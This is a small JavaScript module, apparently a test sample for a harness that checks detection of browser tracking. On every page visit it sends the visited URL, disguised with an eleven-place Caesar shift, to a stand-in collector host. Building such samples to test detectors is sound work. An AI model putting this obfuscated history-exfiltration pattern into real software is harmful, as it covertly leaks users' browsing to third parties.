import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends the address of each page with its letters and digits shifted by eleven places, in one alphabet of 36. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-caesar');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://caesar.collector.example/v1', {
      event: 'page',
      d: url.replace(/[a-z0-9]/g, (character) => PLAIN[(PLAIN.indexOf(character) + 11) % PLAIN.length]),
    }),
  );
}

const PLAIN = 'abcdefghijklmnopqrstuvwxyz0123456789';
